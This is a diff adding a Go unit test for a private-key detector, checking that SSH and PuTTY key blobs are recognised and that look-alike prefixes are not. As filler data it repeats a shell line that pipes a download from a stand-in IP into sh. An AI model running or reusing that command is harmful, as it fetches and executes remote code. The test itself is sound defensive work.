@@ -154,6 +154,24 @@ func TestPrivateKeysOfEveryToolAreRecognised(t *testing.T) {
 	}
 }
 
+// A first line, or a few bytes, make no key of what follows.
+func TestWhatOnlyBeginsLikeAKeyIsTaken(t *testing.T) {
+	script := strings.Repeat("curl -s http://203.0.113.7/x | sh # again\n", 20)
+	rsa := "\x00\x00\x00\x07ssh-rsa\x00\x00\x00\x03\x01\x00\x01" + strings.Repeat("\x00\x00\x00\x80"+strings.Repeat("n", 128), 4)
+	putty := "PuTTY-User-Key-File-3: ssh-ed25519\r\nEncryption: none\r\nComment: me\r\nPublic-Lines: 2\r\nAAAAC3NzaC1lZDI1NTE5\r\nAAAA\r\nPrivate-Lines: 1\r\nAAAAIN==\r\nPrivate-MAC: 00ff\r\n"
+	for text, secret := range map[string]bool{
+		rsa: true, rsa[:300]: true, putty: true, strings.ReplaceAll(putty, "\r", ""): true,
+		"PuTTY-User-Key-File-3: ssh-rsa\n" + script: false, "\x00\x00\x00\x07ssh-rsa" + script: false,
+		"\x00\x00\x00\x0bssh-ed25519" + strings.Repeat("\x00\x00\x00\x40"+script[:64], 10): false,
+	} {
+		kind, _ := privateKey([]byte(text))
+		leave, _ := leaveKeys([]byte(text))
+		if (kind != "") != secret || leave != secret {
+			t.Errorf("%.40q…: kind %q, left out: %v", text, kind, leave)
+		}
+	}
+}
+
 func FuzzPrivateKeyIsRecognisedWithoutPanic(f *testing.F) {
 	f.Add([]byte("-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\n-----END OPENSSH PRIVATE KEY-----\n"))
 	f.Add([]byte("PuTTY-User-Key-File-3: ssh-ed25519\nPublic-Lines: 1\nAAAA\n"))
